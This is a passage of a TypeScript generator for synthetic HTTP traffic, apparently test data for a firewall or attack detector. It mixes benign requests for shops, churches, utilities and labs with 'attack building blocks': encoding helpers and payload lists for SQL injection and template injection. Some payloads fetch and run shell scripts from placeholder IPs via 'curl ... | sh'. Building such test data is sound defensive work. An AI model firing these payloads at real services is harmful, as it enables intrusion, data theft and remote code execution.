          html: `<!DOCTYPE html><html><head><meta charset="utf-8"><style>@media only screen and (max-width:600px){.col{width:100%!important}}</style></head><body style="margin:0;background:#f4f4f4"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center"><table width="600" style="background:#ffffff;font-family:Arial,sans-serif"><tr><td style="padding:24px"><h1 style="font-size:22px">Hi {{ first_name | default: "there" }} 👋</h1>{% for p in recommended_products limit:3 %}<p><a href="{{ p.url }}?utm_source=journeyloop"><img src="{{ p.image }}" width="180" alt="{{ p.title | escape }}"></a><br>{{ p.title }} — {{ p.price | money }}</p>{% endfor %}<p style="font-size:11px;color:#888">Don't want these? <a href="{{ unsubscribe_url }}">Unsubscribe</a>.</p></td></tr></table></td></tr></table></body></html>`,
          preheader: 'New arrivals picked for you',
        },
      }),
    }),
  ],
  [
    'cms-html',
    () => ({
      kind: 'cms-html',
      method: 'PUT',
      path: `/api/catalog/products/${int(1000, 99999)}`,
      headers: browser('shop', jct()),
      body: j({
        product: {
          title: pick(PRODUCT_TITLES),
          description_html: `<p>Our lightest <strong>3-layer</strong> shell yet — 20,000&nbsp;mm waterproof rating &amp; fully taped seams.</p><ul><li>Pit zips for venting</li><li>Packs into its own pocket</li><li>Fits over a mid-layer</li></ul><h3>Care</h3><p>Machine wash cold, tumble dry low to reactivate DWR.</p><div class="video"><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/${rstr(11)}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe></div>`,
        },
      }),
    }),
  ],
  [
    'cms-html',
    () => ({
      kind: 'cms-html',
      method: 'POST',
      path: '/api/v2/pages',
      headers: browser('church', jct()),
      body: j({
        page: {
          slug: `newsletter-${isoDate()}`,
          html: `<h1>Parish Newsletter</h1><p>Dear friends,</p><p>${pick(['Thank you to everyone who helped with the food drive — we collected 1,240&nbsp;lbs!', 'The roof fund has reached 78% of its goal.'])}</p><blockquote>“Let all that you do be done in love.” — 1 Cor 16:14</blockquote><ol><li>Bible study: Wednesdays 7&nbsp;pm</li><li>Youth lock-in: Fri–Sat</li></ol><p><a href="mailto:office@stmarks.org?subject=Volunteer">Email the office</a> to volunteer.</p>`,
        },
      }),
    }),
  ],
  // ---------------- code (excluded code fields)
  [
    'code',
    () => ({
      kind: 'code',
      method: 'POST',
      path: `/api/v1/notebooks/${uuid()}/cells`,
      headers: browser('research', jct()),
      body: j({
        cell: {
          language: 'python',
          source: pick([
            "import pandas as pd\nimport numpy as np\n\ndf = pd.read_csv('platereader_2026-03-14.csv')\nblank = df.loc[df['Well'].str.startswith('B1'), 'OD600'].mean()\ndf['od_corr'] = df['OD600'] - blank\nprint(df.groupby('Well')['od_corr'].agg(['mean', 'std']))\n",
            "import subprocess, os\n# convert raw instrument files\nfor f in os.listdir('raw/'):\n    if f.endswith('.d'):\n        subprocess.run(['msconvert', f'raw/{f}', '--mzML', '-o', 'converted/'], check=True)\n",
            'from scipy.optimize import curve_fit\n\ndef logistic(t, K, r, t0):\n    return K / (1 + np.exp(-r * (t - t0)))\n\npopt, _ = curve_fit(logistic, t, od, p0=[1.2, 0.5, 4])\nprint(f"K={popt[0]:.3f}, r={popt[1]:.3f}")\n',
          ]),
        },
      }),
    }),
  ],
  [
    'code',
    () => ({
      kind: 'code',
      method: 'POST',
      path: `/api/v1/notebooks/${uuid()}/cells`,
      headers: browser('research', jct()),
      body: j({
        cell: {
          language: pick(['sql', 'r']),
          source: pick([
            "SELECT s.sample_id, s.label, avg(r.od600) AS mean_od\nFROM samples s\nJOIN readings r ON r.sample_id = s.sample_id\nWHERE s.project_id = 'PRJ-214' AND r.read_at > now() - interval '7 days'\nGROUP BY 1, 2\nORDER BY mean_od DESC;",
            "library(dplyr)\nlibrary(ggplot2)\nd <- read.csv('growth.csv') %>% filter(strain != 'blank') %>% group_by(strain, hour) %>% summarise(od = mean(OD600))\nggplot(d, aes(hour, od, colour = strain)) + geom_line() + scale_y_log10()",
            "UPDATE samples SET status = 'discarded', note = 'freezer 2 failure 03/14' WHERE freezer = 'F2' AND box IN ('B3','B4');\n-- run AFTER exporting the list!",
          ]),
        },
      }),
    }),
  ],
  [
    'code',
    () => ({
      kind: 'code',
      method: 'PUT',
      path: `/v3/templates/${rstr(10)}`,
      headers: browser('marketing', jct()),
      body: j({
        template: {
          name: pick(['abandoned-cart-v3', 'order-confirmation', 'birthday']),
          liquid: pick([
            '{% assign items = cart.items | sort: "price" | reverse %}\nHi {{ customer.first_name | capitalize | default: "there" }},\n\nYou left {{ items.size }} item{% if items.size != 1 %}s{% endif %} in your cart:\n{% for item in items limit: 3 %}\n- {{ item.title }} ({{ item.variant_title }}) — {{ item.price | money_with_currency }}\n{% endfor %}\n{% if customer.tags contains "vip" %}Use code VIP15 for 15% off.{% endif %}',
            "{% case customer.locale %}{% when 'de' %}Hallo {{ customer.first_name }}!{% when 'fr' %}Bonjour {{ customer.first_name }} !{% else %}Hello {{ customer.first_name }}!{% endcase %}\n{% capture expiry %}{{ 'now' | date: '%s' | plus: 604800 | date: '%B %-d' }}{% endcapture %}\nYour coupon expires on {{ expiry }}.",
            '{%- comment -%} order confirmation {%- endcomment -%}\nOrder {{ order.name }} · {{ order.created_at | date: "%Y-%m-%d %H:%M" }}\n{% for line in order.line_items %}{{ line.quantity }} × {{ line.title | truncate: 40 }}  {{ line.final_line_price | money }}\n{% endfor %}Total: {{ order.total_price | money }}',
          ]),
        },
      }),
    }),
  ],
  [
    'code',
    () => ({
      kind: 'code',
      method: 'PUT',
      path: `/api/v1/runbooks/${pick(['db-failover', 'cache-flush', 'rotate-certs', 'scale-workers', 'disk-full'])}`,
      headers: browser('devops', jct()),
      body: j({
        runbook: {
          title: pick([
            'Postgres replica failover',
            'Disk almost full on DB host',
            'Flush CDN + Redis cache',
          ]),
          script: pick([
            '#!/usr/bin/env bash\nset -euo pipefail\nNS=${NS:-prod}\nPRIMARY=$(kubectl -n "$NS" get pods -l role=primary -o jsonpath=\'{.items[0].metadata.name}\')\necho "current primary: $PRIMARY"\nkubectl -n "$NS" exec "$PRIMARY" -- patronictl switchover --force --candidate db-replica-2\nsleep 10 && kubectl -n "$NS" get pods -l app=postgres -o wide',
            "#!/bin/bash\n# find the biggest offenders\ndu -xh /var/lib/postgresql 2>/dev/null | sort -rh | head -20\nfind /var/log -name '*.gz' -mtime +7 -print -delete\njournalctl --vacuum-size=500M\ndf -h | grep -E '/$|/var'",
            'for host in $(cat hosts.txt); do\n  ssh -o StrictHostKeyChecking=no ops@$host \'sudo systemctl restart nginx && curl -fsS http://localhost/healthz || echo FAIL\'\ndone\ncurl -X POST "https://api.cloudflare.com/client/v4/zones/$ZONE/purge_cache" -H "Authorization: Bearer $CF_TOKEN" --data \'{"purge_everything":true}\'',
            "redis-cli -h cache-01 --scan --pattern 'sess:*' | xargs -L 1000 redis-cli -h cache-01 DEL\nawk '$9 >= 500 {print $7}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
          ]),
          estimated_minutes: int(5, 45),
        },
      }),
    }),
  ],
  [
    'code',
    () => ({
      kind: 'code',
      method: 'POST',
      path: `/api/models/${rstr(8)}/scripts`,
      headers: browser('cad', jct()),
      body: j({
        script: {
          language: pick(['openscad', 'cadquery']),
          source: pick([
            '// Parametric cable clip\n$fn = 64;\ncable_d = 6;   // [3:0.5:12]\nwall = 1.6;\nscrew = "M3"; // [M3, M4]\n\ndifference() {\n  union() {\n    cylinder(d = cable_d + 2*wall, h = 10);\n    translate([0, -(cable_d/2 + wall), 0]) cube([cable_d + 8, wall*2, 10]);\n  }\n  translate([0, 0, -1]) cylinder(d = cable_d, h = 12);\n  translate([-cable_d, -0.5, -1]) cube([cable_d, 1, 12]);\n}',
            'import cadquery as cq\n\nresult = (\n    cq.Workplane("XY")\n    .box(80, 60, 10)\n    .faces(">Z").workplane()\n    .rect(70, 50, forConstruction=True)\n    .vertices().cboreHole(3.4, 6.5, 3.2)\n    .edges("|Z").fillet(2.0)\n)\ncq.exporters.export(result, "plate.step")',
          ]),
        },
      }),
    }),
  ],
  [
    'code',
    () => ({
      kind: 'code',
      method: 'PUT',
      path: `/api/v1/services/${pick(['checkout', 'billing-api'])}/alert-rules`,
      headers: sdk('devops', jct()),
      body: j({
        runbook: {
          title: 'Alert rule + triage',
          script: pick([
            'groups:\n- name: checkout\n  rules:\n  - alert: HighErrorRate\n    expr: sum(rate(http_requests_total{job="checkout",status=~"5.."}[5m])) / sum(rate(http_requests_total{job="checkout"}[5m])) > 0.05\n    for: 10m\n    labels: {severity: critical}\n',
            "-- triage query\nSELECT pid, now() - query_start AS age, state, left(query, 80)\nFROM pg_stat_activity\nWHERE state <> 'idle' AND now() - query_start > interval '30 seconds'\nORDER BY age DESC;\n-- if needed: SELECT pg_terminate_backend(<pid>);",
          ]),
        },
      }),
    }),
  ],
  // ---------------- prose
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: `/api/catalog/products/${int(1000, 99999)}/reviews`,
      headers: pick([browser, mobile])('shop', jct()),
      body: j({
        rating: int(1, 5),
        title: pick([
          'Love it!!',
          'Meh.',
          'Runs small',
          'Not as described',
          'Perfect gift 🎁',
          'Good but...',
        ]),
        body: prose(int(1, 2)),
        verified_purchase: true,
        variant: pick(['M / Navy', 'L / Olive', '10"']),
        photos: chance(0.3) ? [`https://cdn.shopnest.com/ugc/${rstr(12)}.jpg`] : [],
      }),
    }),
  ],
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: `/api/v1/incidents/INC-${int(1000, 9999)}/timeline`,
      headers: browser('devops', jct()),
      body: j({
        type: 'note',
        body: pick([prose(1), markdownNote()]),
        visibility: pick(['internal', 'status-page']),
      }),
    }),
  ],
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: `/api/v1/notebooks/${uuid()}/entries/${int(1, 400)}/comments`,
      headers: browser('research', jct()),
      body: j({ body: pick([prose(1), markdownNote()]), mentions: [pick(['@jmueller', '@aiko.t', '@pi'])] }),
    }),
  ],
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: '/api/v2/prayer-requests',
      headers: mobile('church', jct()),
      body: j({
        message: prose(1),
        share_with: pick(['pastoral_staff', 'prayer_chain']),
        anonymous: chance(0.5),
      }),
    }),
  ],
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: `/api/projects/${int(100, 999)}/notes`,
      headers: browser('translation', jct()),
      body: j({ segment_id: int(1, 2000), note: pick([prose(1), markdownNote()]), resolved: false }),
    }),
  ],
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: `/api/models/${rstr(8)}/comments`,
      headers: browser('cad', jct()),
      body: j({ body: prose(int(1, 2)), parent_id: chance(0.3) ? int(1, 9999) : null }),
    }),
  ],
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: '/api/support/tickets',
      headers: anyClient('utility', jct()),
      body: j({
        account_number: String(int(1000000, 9999999)),
        category: pick(['billing', 'outage', 'start_stop_service', 'meter']),
        subject: pick(['High bill', 'Wrong address on invoice', 'Payment not showing', 'Water pressure low']),
        message: prose(int(1, 2)),
        contact: { email: email(), phone: `+1 ${int(200, 999)}-${int(200, 999)}-${int(1000, 9999)}` },
      }),
    }),
  ],
  [
    'prose',
    () => ({
      kind: 'prose',
      method: 'POST',
      path: `/v3/campaigns/${rstr(10)}/notes`,
      headers: browser('marketing', jct()),
      body: j({ text: prose(1), pinned: chance(0.2) }),
    }),
  ],
  // ---------------- i18n
  [
    'i18n',
    () => ({
      kind: 'i18n',
      method: 'POST',
      path: `/api/tm/${int(10, 99)}/units`,
      headers: browser('translation', jct()),
      body: j(
        pick([
          {
            source: { lang: 'en', text: 'Your password must contain at least 8 characters.' },
            target: { lang: 'ar', text: 'يجب أن تحتوي كلمة المرور على 8 أحرف على الأقل.' },
          },
          {
            source: { lang: 'en', text: 'Free shipping on orders over €50' },
            target: { lang: 'he', text: 'משלוח חינם בהזמנות מעל 50 €' },
          },
          { source: { lang: 'en', text: 'Add to cart' }, target: { lang: 'zh-Hans', text: '加入购物车' } },
          {
            source: { lang: 'en', text: 'Are you sure? This will delete "{name}".' },
            target: { lang: 'ru', text: 'Вы уверены? Это удалит «{name}».' },
          },
          {
            source: { lang: 'en', text: "Don't have an account? Sign up" },
            target: { lang: 'ko', text: '계정이 없으신가요? 가입하기' },
          },
          {
            source: { lang: 'de', text: 'Straße & Hausnummer' },
            target: { lang: 'tr', text: 'Sokak ve kapı numarası' },
          },
          {
            source: { lang: 'en', text: 'Meter reading (kWh)' },
            target: { lang: 'hi', text: 'मीटर रीडिंग (kWh)' },
          },
          {
            source: { lang: 'en', text: 'Next service' },
            target: { lang: 'el', text: 'Επόμενη λειτουργία' },
          },
        ]),
      ),
    }),
  ],
  [
    'i18n',
    () => ({
      kind: 'i18n',
      method: 'PUT',
      path: `/api/subtitle-tracks/${uuid()}/cues/${int(1, 900)}`,
      headers: browser('translation', jct()),
      body: j({
        start: `00:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')},${int(100, 999)}`,
        end: `00:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')},${int(100, 999)}`,
        text: pick([
          '- 待って！\n- どこへ行くの？',
          '<i>Ранее в сериале...</i>',
          '¿Qué hiciste con el dinero?',
          'C’est pas ma faute !',
          '[音楽]',
          'Ich hab’s dir doch gesagt – lass es!',
          'אני לא מבין מה אתה רוצה ממני',
          '♪ Ó meu bem, não vás embora ♪',
        ]),
        speaker: pick(['MARIE', 'KENJI', null]),
      }),
    }),
  ],
  [
    'i18n',
    () => ({
      kind: 'i18n',
      method: 'PUT',
      path: `/api/catalog/products/${int(1000, 99999)}/translations/${pick(['de-DE', 'ja-JP', 'fr-FR', 'pl-PL', 'zh-TW'])}`,
      headers: sdk('shop', jct()),
      body: j({
        title: pick([
          'Wasserdichte Trailhead-Jacke',
          'トレイルヘッド 防水シェルジャケット',
          'Veste imperméable Trailhead',
          'Kurtka przeciwdeszczowa Trailhead',
          '登山防水外套',
        ]),
        options: {
          size: pick(['Größe M', 'Mサイズ', 'Taille M']),
          color: pick(['Marineblau', 'ネイビー', 'Bleu marine']),
        },
        bullets: pick([
          ['Atmungsaktiv', 'Verklebte Nähte', 'Packmaß: 20×12 cm'],
          ['通気性抜群', 'シームテープ加工'],
          ['Coutures étanches', 'Capuche réglable'],
        ]),
      }),
    }),
  ],
  [
    'i18n',
    () => ({
      kind: 'i18n',
      method: 'POST',
      path: '/api/v2/members',
      headers: mobile('church', jct()),
      body: j(
        pick([
          {
            first_name: 'Nguyễn Thị',
            last_name: 'Hương',
            preferred_language: 'vi',
            notes: 'Chỉ nói tiếng Việt, cần người phiên dịch.',
          },
          {
            first_name: 'Małgorzata',
            last_name: 'Wiśniewska',
            preferred_language: 'pl',
            notes: 'Chce dołączyć do chóru.',
          },
          { first_name: 'Σοφία', last_name: 'Παπαδοπούλου', preferred_language: 'el', notes: '' },
          {
            first_name: 'Ikechukwu',
            last_name: 'Okonkwo-Ọbáfẹ́mi',
            preferred_language: 'en',
            notes: 'Returning member 🙌',
          },
          {
            first_name: '美咲',
            last_name: '佐藤',
            preferred_language: 'ja',
            notes: '日曜日の礼拝に参加したいです。',
          },
        ]),
      ),
    }),
  ],
  [
    'i18n',
    () => ({
      kind: 'i18n',
      method: 'POST',
      path: '/api/support/tickets',
      headers: browser('utility', jct()),
      body: j({
        account_number: String(int(1000000, 9999999)),
        category: 'billing',
        message: pick([
          'Bonjour, ma facture de mars est 3× plus élevée que d’habitude. Pouvez-vous vérifier le relevé du compteur ?',
          'Guten Tag, ich möchte meinen Abschlag von 85 € auf 60 € senken. Danke!',
          'Hola, ¿por qué me cobran un recargo por pago tardío si pagué el día 14?',
          'مرحبا، لم أستلم فاتورة هذا الشهر. شكرا',
          '您好，我的自动扣款失败了，请问怎么重新设置？',
          'Dzień dobry, proszę o duplikat faktury za luty (nr konta 4471).',
        ]),
        locale: pick(['fr-CA', 'de-DE', 'es-US', 'ar', 'zh-CN', 'pl-PL']),
      }),
    }),
  ],
  [
    'i18n',
    () => ({
      kind: 'i18n',
      method: 'GET',
      path: `/api/catalog/search?${qs({ q: pick(['Regenjacke Herren', 'レインブーツ キッズ', 'poêle en fonte', 'żeliwna patelnia', '防水外套 男']), locale: pick(['de-DE', 'ja-JP', 'fr-FR']) })}`,
      headers: browser('shop'),
      body: '',
    }),
  ],
];

// ---------------------------------------------------------------- attack building blocks

/** Escape every non-alphanumeric, non-space character as a JSON \uXXXX escape (plus a few letters). */
function uniEscape(s: string): string {
  let out = '';
  for (const ch of s) {
    const c = ch.codePointAt(0) ?? 0;
    if ((/[A-Za-z0-9 ]/.test(ch) && !/[aeiou]/.test(ch)) || c > 0xffff) out += ch;
    else out += `\\u${c.toString(16).padStart(4, '0')}`;
  }
  return out;
}
/** Percent-encode every byte that is not alphanumeric. */
function fullEnc(s: string): string {
  return Array.from(Buffer.from(s, 'utf8'))
    .map((b) => {
      const ch = String.fromCharCode(b);
      return /[A-Za-z0-9]/.test(ch) ? ch : `%${b.toString(16).toUpperCase().padStart(2, '0')}`;
    })
    .join('');
}
function dblEnc(s: string): string {
  return fullEnc(s).replace(/%/g, '%25');
}
/** Build a JSON body with one string value replaced verbatim by a \u-escaped payload. */
function bodyWithEscaped(obj: unknown, payload: string): string {
  return j(obj).replace('"__PAYLOAD__"', `"${uniEscape(payload)}"`);
}

interface Slot {
  d: Dom;
  post: string;
  field: string;
  get: string;
  param: string;
  res: string;
  base: () => Record<string, unknown>;
}

const SLOTS: Record<string, Slot[]> = {
  sql: [
    {
      d: 'shop',
      post: '/api/catalog/products/query',
      field: 'sort',
      get: '/api/catalog/search',
      param: 'sort',
      res: 'Product',
      base: () => ({ page: 1, per_page: 24 }),
    },
    {
      d: 'utility',
      post: '/api/billing/accounts/lookup',
      field: 'account_number',
      get: '/api/billing/accounts',
      param: 'account',
      res: 'Account',
      base: () => ({ zip: '48170' }),
    },
    {
      d: 'research',
      post: '/api/v1/samples/search',
      field: 'sample_id',
      get: '/api/v1/samples',
      param: 'id',
      res: 'Sample',
      base: () => ({ project_id: 'PRJ-214' }),
    },
    {
      d: 'church',
      post: '/api/v2/members/search',
      field: 'last_name',
      get: '/api/v2/members',
      param: 'q',
      res: 'Member',
      base: () => ({ household: true }),
    },
    {
      d: 'marketing',
      post: '/v3/contacts/query',
      field: 'email',
      get: '/v3/contacts',
      param: 'email',
      res: 'Contact',
      base: () => ({ list_id: 42 }),
    },
    {
      d: 'translation',
      post: '/api/tm/lookup',
      field: 'source_text',
      get: '/api/tm/search',
      param: 'q',
      res: 'TranslationUnit',
      base: () => ({ src: 'en', tgt: 'de' }),
    },
    {
      d: 'devops',
      post: '/api/v1/incidents/query',
      field: 'service',
      get: '/api/v1/incidents',
      param: 'service',
      res: 'Incident',
      base: () => ({ status: 'open' }),
    },
    {
      d: 'cad',
      post: '/api/models/filter',
      field: 'order_by',
      get: '/api/models/search',
      param: 'order_by',
      res: 'Model',
      base: () => ({ format: 'stl' }),
    },
  ],
  template: [
    {
      d: 'marketing',
      post: '/v3/journeys/preview',
      field: 'subject',
      get: '/v3/preview',
      param: 'subject',
      res: 'Journey',
      base: () => ({ contact_id: 88121 }),
    },
    {
      d: 'marketing',
      post: '/v3/sms/test',
      field: 'body',
      get: '/v3/sms/render',
      param: 'body',
      res: 'SmsMessage',
      base: () => ({ to: '+15555550123' }),
    },
    {
      d: 'shop',
      post: '/api/catalog/gift-cards',
      field: 'message',
      get: '/api/catalog/gift-cards/preview',
      param: 'message',
      res: 'GiftCard',
      base: () => ({ amount: 50 }),
    },
    {
      d: 'church',
      post: '/api/v2/events/invitations',
      field: 'greeting',
      get: '/api/v2/invitations/preview',
      param: 'greeting',
      res: 'Invitation',
      base: () => ({ event_id: 412 }),
    },
    {
      d: 'utility',
      post: '/api/notifications/templates/render',
      field: 'name',
      get: '/api/notifications/preview',
      param: 'name',
      res: 'Notification',
      base: () => ({ channel: 'email' }),
    },
    {
      d: 'devops',
      post: '/api/v1/status-page/messages',
      field: 'title',
      get: '/api/v1/status-page/preview',
      param: 'title',
      res: 'StatusMessage',
      base: () => ({ component: 'checkout' }),
    },
    {
      d: 'research',
      post: '/api/v1/reports/render',
      field: 'header',
      get: '/api/v1/reports/preview',
      param: 'header',
      res: 'Report',
      base: () => ({ format: 'pdf' }),
    },
    {
      d: 'translation',
      post: '/api/projects/412/export',
      field: 'filename_pattern',
      get: '/api/projects/412/export',
      param: 'pattern',
      res: 'Export',
      base: () => ({ format: 'xliff' }),
    },
  ],
  command: [
    {
      d: 'cad',
      post: '/api/models/convert',
      field: 'filename',
      get: '/api/models/thumbnail',
      param: 'file',
      res: 'Conversion',
      base: () => ({ to: 'glb' }),
    },
    {
      d: 'devops',
      post: '/api/v1/diagnostics/ping',
      field: 'host',
      get: '/api/v1/diagnostics/traceroute',
      param: 'host',
      res: 'Diagnostic',
      base: () => ({ count: 4 }),
    },
    {
      d: 'translation',
      post: '/api/subtitles/burn-in',
      field: 'font',
      get: '/api/subtitles/probe',
      param: 'video',
      res: 'BurnIn',
      base: () => ({ video_id: 'vid_8812' }),
    },
    {
      d: 'research',
      post: '/api/v1/pipelines/run',
      field: 'input_file',
      get: '/api/v1/pipelines/status',
      param: 'run',
      res: 'PipelineRun',
      base: () => ({ pipeline: 'fastqc' }),
    },
    {
      d: 'devops',
      post: '/api/v1/runbooks/execute',
      field: 'target',
      get: '/api/v1/runbooks/dry-run',
      param: 'target',
      res: 'RunbookExecution',
      base: () => ({ runbook: 'restart-nginx' }),
    },
    {
      d: 'shop',
      post: '/api/catalog/images/resize',
      field: 'image',
      get: '/api/catalog/images/info',
      param: 'path',
      res: 'ImageJob',
      base: () => ({ width: 800 }),
    },
    {
      d: 'utility',
      post: '/api/reports/export',
      field: 'report_name',
      get: '/api/reports/download',
      param: 'name',
      res: 'ReportExport',
      base: () => ({ format: 'pdf' }),
    },
    {
      d: 'marketing',
      post: '/v3/domains/verify',
      field: 'domain',
      get: '/v3/domains/dns-check',
      param: 'domain',
      res: 'DomainCheck',
      base: () => ({ record: 'TXT' }),
    },
  ],
  'path-traversal': [
    {
      d: 'cad',
      post: '/api/models/files/read',
      field: 'path',
      get: '/api/models/download',
      param: 'file',
      res: 'ModelFile',
      base: () => ({ model_id: 'k3d9a1' }),
    },
    {
      d: 'research',
      post: '/api/v1/attachments/fetch',
      field: 'filename',
      get: '/api/v1/attachments',
      param: 'name',
      res: 'Attachment',
      base: () => ({ entry: 214 }),
    },
    {
      d: 'translation',
      post: '/api/subtitles/load',
      field: 'file',
      get: '/api/subtitles/raw',
      param: 'file',
      res: 'Subtitle',
      base: () => ({ lang: 'de' }),
    },
    {
      d: 'marketing',
      post: '/v3/templates/include',
      field: 'template',
      get: '/v3/templates/render',
      param: 'template',
      res: 'Template',
      base: () => ({ locale: 'en' }),
    },
    {
      d: 'utility',
      post: '/api/billing/statements/pdf',
      field: 'statement',
      get: '/api/billing/statements',
      param: 'file',
      res: 'Statement',
      base: () => ({ account: '4471022' }),
    },
    {
      d: 'church',
      post: '/api/v2/media/get',
      field: 'asset',
      get: '/api/v2/bulletins/download',
      param: 'doc',
      res: 'Asset',
      base: () => ({ size: 'large' }),
    },
    {
      d: 'devops',
      post: '/api/v1/logs/tail',
      field: 'logfile',
      get: '/api/v1/logs/view',
      param: 'file',
      res: 'LogTail',
      base: () => ({ lines: 200 }),
    },
    {
      d: 'shop',
      post: '/api/catalog/themes/assets',
      field: 'key',
      get: '/api/catalog/themes/asset',
      param: 'key',
      res: 'ThemeAsset',
      base: () => ({ theme_id: 12 }),
    },
  ],
  ssrf: [
    {
      d: 'devops',
      post: '/api/v1/integrations/webhooks',
      field: 'url',
      get: '/api/v1/integrations/test',
      param: 'url',
      res: 'Webhook',
      base: () => ({ events: ['incident.created'] }),
    },
    {
      d: 'cad',
      post: '/api/models/import',
      field: 'source_url',
      get: '/api/models/import',
      param: 'url',
      res: 'ModelImport',
      base: () => ({ format: 'stl' }),
    },
    {
      d: 'shop',
      post: '/api/catalog/images/fetch',
      field: 'image_url',
      get: '/api/catalog/images/proxy',
      param: 'src',
      res: 'ProductImage',
      base: () => ({ product_id: 10021 }),
    },
    {
      d: 'marketing',
      post: '/v3/feeds',
      field: 'feed_url',
      get: '/v3/link-preview',
      param: 'url',
      res: 'ProductFeed',
      base: () => ({ refresh: 'hourly' }),
    },
    {
      d: 'research',
      post: '/api/v1/datasets/import',
      field: 'remote_url',
      get: '/api/v1/datasets/peek',
      param: 'url',
      res: 'Dataset',
      base: () => ({ type: 'csv' }),
    },
    {
      d: 'translation',
      post: '/api/projects/sync',
      field: 'repository_url',
      get: '/api/projects/fetch',
      param: 'source',
      res: 'ProjectSync',
      base: () => ({ branch: 'main' }),
    },
    {
      d: 'church',
      post: '/api/v2/members/avatar',
      field: 'avatar_url',
      get: '/api/v2/calendar/subscribe',
      param: 'ics',
      res: 'Avatar',
      base: () => ({ member_id: 4471 }),
    },
    {
      d: 'utility',
      post: '/api/integrations/callback',
      field: 'callback_url',
      get: '/api/integrations/verify',
      param: 'callback',
      res: 'Callback',
      base: () => ({ provider: 'paymentus' }),
    },
  ],
  log4shell: [
    {
      d: 'devops',
      post: '/api/v1/incidents',
      field: 'title',
      get: '/api/v1/incidents',
      param: 'q',
      res: 'Incident',
      base: () => ({ severity: 'SEV3' }),
    },
    {
      d: 'utility',
      post: '/account/login',
      field: 'username',
      get: '/api/billing/accounts',
      param: 'q',
      res: 'Session',
      base: () => ({ password: 'Winter2026!' }),
    },
    {
      d: 'shop',
      post: '/api/catalog/products/query',
      field: 'search',
      get: '/api/catalog/search',
      param: 'q',
      res: 'Product',
      base: () => ({ page: 1 }),
    },
    {
      d: 'research',
      post: '/api/v1/samples',
      field: 'label',
      get: '/api/v1/samples',
      param: 'label',
      res: 'Sample',
      base: () => ({ freezer: 'F2' }),
    },
    {
      d: 'translation',
      post: '/api/tm/42/units',
      field: 'context',
      get: '/api/tm/search',
      param: 'q',
      res: 'TranslationUnit',
      base: () => ({ source: { lang: 'en', text: 'Save' } }),
    },
    {
      d: 'church',
      post: '/api/v2/members',
      field: 'email',
      get: '/api/v2/members',
      param: 'email',
      res: 'Member',
      base: () => ({ first_name: 'John' }),
    },
    {
      d: 'cad',
      post: '/api/models',
      field: 'name',
      get: '/api/models/search',
      param: 'q',
      res: 'Model',
      base: () => ({ units: 'mm' }),
    },
    {
      d: 'marketing',
      post: '/v3/contacts',
      field: 'first_name',
      get: '/v3/contacts',
      param: 'email',
      res: 'Contact',
      base: () => ({ email: 'a@b.co' }),
    },
  ],
  xss: [
    {
      d: 'shop',
      post: '/api/catalog/products/10021/reviews',
      field: 'title',
      get: '/api/catalog/search',
      param: 'q',
      res: 'Review',
      base: () => ({ rating: 5 }),
    },
    {
      d: 'church',
      post: '/api/v2/events',
      field: 'location',
      get: '/api/v2/events',
      param: 'q',
      res: 'Event',
      base: () => ({ capacity: 40 }),
    },
    {
      d: 'cad',
      post: '/api/models/k3d9a1/comments',
      field: 'body',
      get: '/api/models/search',
      param: 'q',
      res: 'Comment',
      base: () => ({ parent_id: null }),
    },
    {
      d: 'devops',
      post: '/api/v1/incidents/INC-4471/timeline',
      field: 'body',
      get: '/api/v1/incidents',
      param: 'q',
      res: 'TimelineNote',
      base: () => ({ type: 'note' }),
    },
    {
      d: 'marketing',
      post: '/v3/forms/signup',
      field: 'first_name',
      get: '/v3/forms/thanks',
      param: 'name',
      res: 'Signup',
      base: () => ({ email: 'x@mail.ru' }),
    },
    {
      d: 'utility',
      post: '/api/support/tickets',
      field: 'subject',
      get: '/api/support/tickets',
      param: 'q',
      res: 'Ticket',
      base: () => ({ category: 'billing' }),
    },
    {
      d: 'translation',
      post: '/api/tm/42/units',
      field: 'note',
      get: '/api/tm/search',
      param: 'q',
      res: 'TranslationUnit',
      base: () => ({ context: 'checkout' }),
    },
    {
      d: 'research',
      post: '/api/v1/samples',
      field: 'label',
      get: '/api/v1/entries',
      param: 'q',
      res: 'Sample',
      base: () => ({ freezer: 'F1' }),
    },
  ],
};

const PAYLOADS: Record<string, string[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "1' AND SLEEP(5)-- -",
    '1;SELECT PG_SLEEP(10)--',
    "' UNION SELECT NULL,email,password_hash,NULL FROM users--",
    "admin'/**/oR/**/1=1#",
    '1) AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--',
    '-1 UNION ALL SELECT table_name,column_name FROM information_schema.columns-- -',
    "x'; DROP TABLE meter_readings;--",
    '1 AND (SELECT 4521 FROM (SELECT(SLEEP(5)))xYzq)',
    "(CASE WHEN (SELECT substr(password,1,1) FROM admins LIMIT 1)='a' THEN created_at ELSE price END)",
    "1' WAITFOR DELAY '0:0:7'--",
    "'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.7/p.sh|sh';--",
    "') OR 1=1 LIMIT 1 OFFSET 0 --",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))-- x",
    'name, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END)',
    "4471' AND 1=(SELECT COUNT(*) FROM pg_user WHERE usename='postgres' AND usesuper)--",
  ],
  template: [
    '{{7*7}}{{config.items()}}',
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('curl -s http://198.51.100.23/x|sh').read() }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
